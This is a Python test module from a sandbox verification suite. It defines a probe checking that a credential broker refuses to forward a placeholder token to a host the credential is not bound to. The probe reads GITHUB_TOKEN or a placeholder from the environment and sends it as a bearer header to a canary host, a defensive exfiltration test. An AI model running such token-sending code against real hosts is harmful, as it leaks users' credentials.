"""Broker credential placeholders: a placeholder sent to a host it is not bound to (M4).

The sandbox holds a credential only as `corral-placeholder-<random>`; the
broker swaps it for the real value on requests to the credential's hosts and
refuses (journaling `exfiltration`) any request carrying it elsewhere. On the
bare host the probe sends the caller's real token instead, and the allowlisted
canary receives it.
"""

from __future__ import annotations

from corral.verify.model import Probe
from corral.verify.oracles import AnyOf, HitLogged, JournalHas
from corral.verify.probes._dsl import code

__all__ = ["PROBES"]

_ALLOW_A = ("{http_a_host}:{http_a_port}",)

PROBES: list[Probe] = [
    Probe(
        "secrets-placeholder-exfiltration",
        "secrets",
        "M4",
        "send the credential's placeholder (or, bare, the token itself) to an allowed host "
        "the credential is not bound to",
        code("""
          tok = os.environ.get("CORRAL_VERIFY_TOKEN") or os.environ.get("GITHUB_TOKEN") or "none"
          print("token kind:", tok.split("-")[0] if tok.startswith("corral-") else "other")
          r, e = via_proxy_or_direct(P["http_a_host"], P["http_a_port"], "/m/" + MARKER + "/ok",
                                     ("Authorization: Bearer %s\\r\\n" % tok).encode())
          net_report("placeholder to an unbound host", r, e)
          """),
        # Denied only when the canary saw nothing *and* the broker journaled
        # the attempt as exfiltration (a silent refusal proves nothing).
        AnyOf((HitLogged(("http_a",)), JournalHas(("exfiltration",)))),
        allow=_ALLOW_A,
        needs=frozenset({"broker", "journal"}),
        broker_config=(
            '[[credentials]]\nname = "verify"\nenv = "CORRAL_VERIFY_TOKEN"\n'
            'value = "env:GITHUB_TOKEN"\nhosts = ["bound.corral-verify.invalid"]\n'
        ),
    ),
]
